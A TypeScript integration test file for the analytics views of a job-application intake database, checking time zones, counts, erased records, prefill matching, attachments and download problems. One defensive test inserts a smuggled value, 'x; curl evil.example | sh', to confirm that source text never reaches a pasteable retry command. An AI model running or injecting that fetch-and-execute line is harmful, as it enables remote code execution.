// The views where the demo's data has nothing to show: several screens, changed wordings, odd offsets, erased people, odd values.
// `npm test -- test/integration/database/analytics.test.ts -u` (this file with -u) also writes the dbt sources from the comments.
import { resolve } from 'node:path';
import { describe, expect } from 'vitest';
import { type Screen, unreadableFlag } from '../../../src/domain/application.ts';
import { appendEvents } from '../../../src/store/events.ts';
import { replaceScreens } from '../../../src/store/files/complete-download.ts';
import { openDatabase } from '../../../src/store/postgres/database.ts';
import { test as base } from '../../support/database/test-database.ts';
import { dbtFile, renderDbtSources } from '../../support/documents/dbt-sources.ts';
import { openSmallIntake } from '../../support/small-intake.ts';

const test = base.extend('db', { scope: 'file' }, async ({ database }, { onCleanup }) => {
  const db = openDatabase({ url: database.url, role: 'test', connections: 1 });
  onCleanup(() => db[Symbol.asyncDispose]());
  await db.query(`INSERT INTO intake.advertisers (name, advertiser_id) VALUES ('seven', 7)`);
  await db.query(
    `INSERT INTO intake.applications (advertiser_id, application_id, submitted_at, source_offset, job_reference, person_key,
       email, notes, content_hash, observed_seq, erased_at)
     VALUES (7, 1, '2026-01-31T13:30:00Z', '+11:00', 'A', 'one', 'a@example.com', NULL, '', 1, NULL),
       (7, 2, '2026-01-31T14:30:00Z', NULL, 'A', 'one', '', '[{"field": "Phone", "reason": "holds NUL"}]', '', 1, NULL),
       (7, 3, '2026-02-01T02:15:00Z', '-03:30', 'A', 'two', 'b@example.com', NULL, '', 1, NULL),
       (7, 4, NULL, NULL, NULL, NULL, NULL, NULL, '', 1, now())`,
  );
  const keep = (applicationId: bigint, ...screens: Screen[]) =>
    db.transaction((tx) =>
      replaceScreens(tx, 7n, [{ applicationId, sha256: '00', parsed: { parserVersion: 1, screens } }]),
    );
  await keep(1n, aScreen('pass', 'Can you drive?', 'Yes'), aScreen('fail', 'Can you drive?', 'No'));
  await keep(2n, aScreen('unknown', 'Can you drive?', 'No'));
  await keep(3n, aScreen('pass', 'Do you hold a licence?', 'Yes'));
  return db;
});

/** One question with the same id whatever its wording, and a text that a person typed. */
function aScreen(outcome: Screen['outcome'], text: string, chosen: string): Screen {
  const answers = ['Yes', 'No', 'Rather not say'].map((answer) => ({
    id: null,
    text: answer,
    selected: answer === chosen,
  }));
  return {
    id: 'S',
    name: 'Drivers',
    outcome,
    notes: [],
    questions: [
      { id: 'Q1', type: 'True/False', text, answers },
      { id: 'Q2', type: 'Text', text: 'Why?', answers: [{ id: null, text: 'Because of Ada', selected: true }] },
      { id: 'Q3', type: 'Essay', text: 'More?', answers: [{ id: null, text: 'Ask Ada', selected: false }] },
    ],
  };
}

describe('the views', () => {
  test('show the clock of the source: by its offset, and by +10:00 where it wrote none', async ({ db }) => {
    expect(
      await db.query(
        `SELECT application_id::int AS id, submitted_local::text AS local FROM intake_analytics.applications_anonymous ORDER BY 1`,
      ),
    ).toEqual([
      { id: 1, local: '2026-02-01 00:30:00' },
      { id: 2, local: '2026-02-01 00:30:00' },
      { id: 3, local: '2026-01-31 22:45:00' },
    ]);
    expect(
      await db.query(
        `SELECT 1 FROM intake.applications WHERE intake.local_time(submitted_at, source_offset)
           IS DISTINCT FROM submitted_at AT TIME ZONE coalesce(source_offset, '+10:00')::interval`,
      ),
    ).toEqual([]);
  });

  test('count an application with several screens once, and its screens each', async ({ db }) => {
    expect(
      await db.query(
        `SELECT day::text, applications::int, people::int, screens::int, screens_passed::int AS passed, screens_failed::int AS failed
         FROM intake_analytics.applications_daily ORDER BY day`,
      ),
    ).toEqual([
      { day: '2026-01-31', applications: 1, people: 1, screens: 1, passed: 1, failed: 0 },
      { day: '2026-02-01', applications: 2, people: 1, screens: 3, passed: 1, failed: 1 },
    ]);
    expect(
      await db.query(
        `SELECT applications::int, screens::int, pass_rate FROM intake_analytics.jobs WHERE job_reference = 'A'`,
      ),
    ).toEqual([{ applications: 3, screens: 4, pass_rate: '0.6667' }]);
    expect(
      await db.query(
        `SELECT person_key, applications::int, jobs::int, screens::int, screens_passed::int AS passed
         FROM intake_analytics.job_seekers ORDER BY 1`,
      ),
    ).toEqual([
      { person_key: 'one', applications: 2, jobs: 1, screens: 3, passed: 1 },
      { person_key: 'two', applications: 1, jobs: 1, screens: 1, passed: 1 },
    ]);
  });

  test('count a week from its Monday, and a person once in it', async ({ db }) => {
    expect(
      await db.query(
        `SELECT week::text, job_reference AS job, applications::int, people::int, screens::int, screens_passed::int AS passed, screens_failed::int AS failed
         FROM intake_analytics.applications_weekly WHERE advertiser_id = 7`,
      ),
    ).toEqual([{ week: '2026-01-26', job: 'A', applications: 3, people: 2, screens: 4, passed: 2, failed: 1 }]);
  });

  test('name the account beside its id, every one of them', async ({ db }) => {
    const nameless = await db.query(
      `SELECT c.relname AS view FROM pg_class c
       WHERE c.relnamespace = 'intake_analytics'::regnamespace AND c.relkind = 'v' AND (
         SELECT count(*) FROM pg_attribute a WHERE a.attrelid = c.oid AND a.attname IN ('advertiser', 'advertiser_id')) < 2`,
    );
    expect(nameless, 'give it advertiser_id and advertiser, the name').toEqual([]);
    for (const view of ['applications', 'applications_daily', 'jobs', 'screening_answers', 'data_quality']) {
      expect(
        await db.query(`SELECT DISTINCT advertiser FROM intake_analytics.${view} WHERE advertiser_id = 7`),
        view,
      ).toEqual([{ advertiser: 'seven' }]);
    }
  });

  test('show events by job and person, and of an erased application that it was erased', async ({ db }) => {
    await db.transaction((tx) =>
      appendEvents(tx, 7n, [
        { applicationId: 1n, type: 'application.received' },
        { applicationId: 4n, type: 'application.received' },
        { applicationId: 4n, type: 'application.erased' },
      ]),
    );
    expect(
      await db.query(
        `SELECT type, application_id::int AS id, person_key AS person, job_reference AS job, advertiser
         FROM intake_analytics.events WHERE advertiser_id = 7 ORDER BY event_id`,
      ),
    ).toEqual([
      { type: 'application.received', id: 1, person: 'one', job: 'A', advertiser: 'seven' },
      { type: 'application.erased', id: null, person: null, job: null, advertiser: 'seven' },
    ]);
    expect(
      await db.query(`SELECT 1 FROM intake_analytics.events WHERE at_local <> at AT TIME ZONE interval '10 hours'`),
    ).toEqual([]);
  });

  test('link a prefill to applications by the account that both name, or by the address', async ({ db }) => {
    const prefill = (no: number, email: string | null, keys: readonly string[], outcome = 'redeemed') =>
      db.query(
        `INSERT INTO intake.prefills (advertiser_id, prefill_id, outcome, form_url, return_url, profile, email, person_keys, created_at)
         VALUES (7, $1, $2, '', '', CASE WHEN $2 = 'redeemed' THEN '{}'::jsonb END, $3, $4, '2026-01-31T13:00:00Z')`,
        [`00000000-0000-4000-8000-00000000000${no}`, outcome, email, keys],
      );
    await prefill(1, ' A@Example.com ', ['one']);
    await prefill(2, 'B@example.com', ['not known here']);
    await prefill(3, null, []);
    await prefill(4, '', []);
    await prefill(5, null, [], 'lapsed');
    expect(
      await db.query(
        `SELECT right(prefill_id::text, 1)::int AS prefill, application_id::int AS id, matched_by, person_key AS person,
           seconds_after_click::int AS after, advertiser
         FROM intake_analytics.prefill_applications ORDER BY 1, 2`,
      ),
    ).toEqual([
      // The account made two applications, one of them without an address.
      { prefill: 1, id: 1, matched_by: 'person_key', person: 'one', after: 1_800, advertiser: 'seven' },
      { prefill: 1, id: 2, matched_by: 'person_key', person: 'one', after: 5_400, advertiser: 'seven' },
      { prefill: 2, id: 3, matched_by: 'address', person: 'two', after: 47_700, advertiser: 'seven' },
    ]);
  });

  test('call an application failed when one of its screens failed, and never when none is known to', async ({ db }) => {
    expect(
      await db.query(
        `SELECT application_id::int AS id, screening_outcome AS outcome FROM intake_analytics.applications ORDER BY 1`,
      ),
    ).toEqual([
      { id: 1, outcome: 'fail' },
      { id: 2, outcome: 'unknown' },
      { id: 3, outcome: 'pass' },
    ]);
  });

  test('put the wordings of one question side by side, also with answers that nobody chose', async ({ db }) => {
    const rows = await db.query(
      `SELECT wording::int, question_text AS question, answer_text AS answer, offered::int, chosen::int, pass_rate_chosen AS passed, knock_out_power AS power
       FROM intake_analytics.answer_distribution WHERE question_id = 'Q1' ORDER BY wording, answer_text`,
    );
    const [can, licence] = ['Can you drive?', 'Do you hold a licence?'];
    expect(rows.map((row) => Object.values(row))).toEqual([
      [1, can, 'No', 3, 2, '0.0000', '1.0000'],
      [1, can, 'Rather not say', 3, 0, null, null],
      [1, can, 'Yes', 3, 1, '1.0000', '-1.0000'],
      [2, licence, 'No', 1, 0, null, null],
      [2, licence, 'Rather not say', 1, 0, null, null],
      [2, licence, 'Yes', 1, 1, '1.0000', null],
    ]);
  });

  test('keep what people typed, of known and unknown types, in the one view for it', async ({ db }) => {
    const typed = await db.query(`SELECT DISTINCT answer_text FROM intake_analytics.screening_free_text ORDER BY 1`);
    expect(typed).toEqual([{ answer_text: 'Ask Ada' }, { answer_text: 'Because of Ada' }]);
    expect(
      await db.query(`SELECT count(*)::int AS n FROM intake_analytics.screening_answers WHERE answer_text IS NULL`),
    ).toEqual([{ n: 8 }]);
    expect(await db.query(`SELECT 1 FROM intake_analytics.screening_answers WHERE answer_text LIKE '%Ada%'`)).toEqual(
      [],
    );
  });

  test('name what is odd, and say nothing of the erased', async ({ db }) => {
    expect(
      await db.query(
        `SELECT finding, meaning, affected::int, example_application_id::int AS example FROM intake_analytics.data_quality
         WHERE affected > 0 AND finding IN ('no_email', 'noted', 'no_submission_time') ORDER BY 1`,
      ),
    ).toEqual([
      { finding: 'no_email', meaning: 'No e-mail address.', affected: 1, example: 2 },
      { finding: 'noted', meaning: 'Phone holds NUL', affected: 1, example: 2 },
    ]);
  });

  test('say where the bytes of an attachment lie, their true size, and nothing where none are held', async ({ db }) => {
    await db.query(
      `INSERT INTO intake.blobs (advertiser_id, sha256, size_bytes, key, state, infected_at, verified_at)
       VALUES (7, 'aa', 12, '7/aa/aa', 'stored', NULL, '2026-02-01T00:00:00Z'), (7, 'bb', 13, '7/bb/bb', 'infected', now(), NULL)`,
    );
    await db.query(
      `INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, size_bytes, sha256, stored_at, content_type)
       VALUES (7, 1, 'resume', 'stored', 10, 'aa', now(), 'application/pdf ; name="Ada Lovelace.pdf"'),
         (7, 2, 'resume', 'infected', 13, 'bb', NULL, NULL), (7, 3, 'resume', 'pending', 14, NULL, NULL, 'text/plain')`,
    );
    expect(
      await db.query(
        `SELECT application_id::int AS id, size_bytes::int AS said, stored_bytes::int AS true, blob_key AS key,
           verified_at IS NOT NULL AS verified FROM intake_analytics.attachments ORDER BY 1`,
      ),
    ).toEqual([
      { id: 1, said: 10, true: 12, key: '7/aa/aa', verified: true },
      { id: 2, said: 13, true: null, key: null, verified: false },
      { id: 3, said: 14, true: null, key: null, verified: false },
    ]);
    // A declared type may carry the name of the file, which is a person's.
    expect(
      await db.query(`SELECT content_type AS type FROM intake_analytics.attachments ORDER BY application_id`),
    ).toEqual([{ type: 'application/pdf' }, { type: null }, { type: 'text/plain' }]);
  });

  test('show each job by its own clock, also where two were applied for at one moment', async ({ db }) => {
    await db.query(`INSERT INTO intake.advertisers (name, advertiser_id) VALUES ('eight', 8)`);
    await db.query(
      `INSERT INTO intake.applications (advertiser_id, application_id, submitted_at, source_offset, job_reference, content_hash, observed_seq)
       VALUES (8, 1, '2026-01-31T13:30:00Z', '+11:00', 'X', '', 1), (8, 2, '2026-01-31T13:30:00Z', '-03:30', 'Y', '', 1),
         (8, 3, '2026-01-31T13:30:00Z', '+08:00', NULL, '', 1)`,
    );
    await db.query(
      `INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, reason, uploaded_at, uploaded_offset)
       VALUES (8, 2, 'resume', 'missing', 'gone', '2026-01-31T14:00:00Z', NULL), (8, 3, 'resume', 'missing', 'gone', '2026-01-31T14:00:00Z', '+02:00')`,
    );
    const screens = [aScreen('pass', 'Can you drive?', 'Yes')];
    await db.transaction((tx) =>
      replaceScreens(tx, 8n, [{ applicationId: 2n, sha256: '00', parsed: { parserVersion: 1, screens } }]),
    );
    const first = await db.query(
      `SELECT job_reference AS job, first_application_local::text AS first, last_application_local::text AS last
       FROM intake_analytics.jobs WHERE advertiser_id = 8 ORDER BY 1`,
    );
    const y = '2026-01-31 10:00:00';
    expect(first).toEqual([
      { job: 'X', first: '2026-02-01 00:30:00', last: '2026-02-01 00:30:00' },
      { job: 'Y', first: y, last: y },
      { job: null, first: '2026-01-31 21:30:00', last: '2026-01-31 21:30:00' },
    ]);
    expect(
      await db.query(
        `SELECT DISTINCT first_offered_local::text AS first, last_offered_local::text AS last
         FROM intake_analytics.answer_distribution WHERE advertiser_id = 8`,
      ),
    ).toEqual([{ first: y, last: y }]);
    expect(
      await db.query(
        `SELECT uploaded_local::text AS uploaded FROM intake_analytics.attachment_problems WHERE advertiser_id = 8
         UNION ALL SELECT uploaded_local::text FROM intake_analytics.attachments WHERE advertiser_id = 8 ORDER BY 1`,
      ),
    ).toEqual([
      ...Array(2).fill({ uploaded: '2026-01-31 10:30:00' }),
      ...Array(2).fill({ uploaded: '2026-01-31 16:00:00' }),
    ]);
  });

  test('show a file by the clock of its own date, also after a change', async ({ database }) => {
    await using intake = await openSmallIntake({ database });
    const upload = (offset: string) => ({
      attachments: [
        { kind: 'resume' as const, content: 'x', raw: { DateUploaded: `"/Date(1769868000000${offset})/"` } },
      ],
    });
    const [id = 0n] = intake.board.add([upload('+0200')]);
    const locals = () =>
      database.query(
        `SELECT uploaded_local::text AS local FROM intake_analytics.attachments WHERE application_id = $1`,
        [id],
      );
    await intake.sweep();
    expect(await locals()).toEqual([{ local: '2026-01-31 16:00:00' }]);
    await intake.change(id, { ...upload('+0300'), firstName: 'Another' });
    expect(await locals()).toEqual([{ local: '2026-01-31 17:00:00' }]);
  });

  test('list a download as a problem after it failed, and a file in a final state once', async ({ database }) => {
    await database.query(`INSERT INTO intake.applications (advertiser_id, application_id, raw, content_hash, observed_seq)
      SELECT 10, n, '{}', '\\x00', 1 FROM generate_series(1, 5) AS n`);
    await database.query(`INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, reason)
      SELECT 10, n, 'resume', CASE WHEN n = 4 THEN 'given_up' ELSE 'pending' END, CASE WHEN n = 4 THEN 'r' END
      FROM generate_series(1, 5) AS n`);
    // 1 waits for its first try, 2 is fetched for the first time, 3 waits in an outage, 4 is asked for again, 5 is fetched for the third
    // time.
    const claim = `'00000000-0000-0000-0000-000000000001', now()`;
    await database.query(`INSERT INTO intake.downloads (advertiser_id, application_id, kind, priority, attempts, trouble, trouble_kind, lease_token, leased_until)
      VALUES (10, 1, 'resume', 0, 0, NULL, NULL, NULL, NULL), (10, 2, 'resume', 0, 1, NULL, NULL, ${claim}),
        (10, 3, 'resume', 0, 0, 'away', 'unreachable', NULL, NULL), (10, 4, 'resume', 0, 1, 'away', 'unreachable', NULL, NULL),
        (10, 5, 'resume', 0, 3, 'reset', 'unreachable', ${claim})`);
    const listed = `SELECT application_id::int AS id, problem, reason, attempts FROM intake_analytics.attachment_problems
      WHERE advertiser_id = 10 ORDER BY 1`;
    expect(await database.query(listed)).toEqual([
      { id: 3, problem: 'waiting', reason: 'away', attempts: 0 },
      { id: 4, problem: 'given_up', reason: 'r', attempts: 0 },
      { id: 5, problem: 'waiting', reason: 'reset', attempts: 2 },
    ]);
  });

  test('repeat no text of the source in a command that a person may paste', async ({ database }) => {
    await database.query(`INSERT INTO intake.applications (advertiser_id, application_id, raw, content_hash, observed_seq)
      VALUES (9, 1, '{}', '\\x00', 1)`);
    await database.query(`INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, reason) VALUES
      (9, 1, 'resume', 'given_up', 'r'), (9, 1, 'screen', 'rejected', '${unreadableFlag}'), (9, 1, 'x; curl evil.example | sh', 'rejected', 'r')`);
    const next = await database.query<{ kind: string; next: string | null }>(
      `SELECT kind, next FROM intake_analytics.attachment_problems WHERE advertiser_id = 9 ORDER BY kind`,
    );
    expect(next).toEqual([
      { kind: 'resume', next: 'intake retry --application 1 --kind resume' },
      // A retry leaves it out: it is fetched when its flag can be read.
      { kind: 'screen', next: 'intake sync --recheck' },
      { kind: 'x; curl evil.example | sh', next: null },
    ]);
  });

  test('are described for dbt (npm test -- test/integration/database/analytics.test.ts -u)', async ({ database }) => {
    await expect(await renderDbtSources(database)).toMatchFileSnapshot(resolve(dbtFile));
  });
});
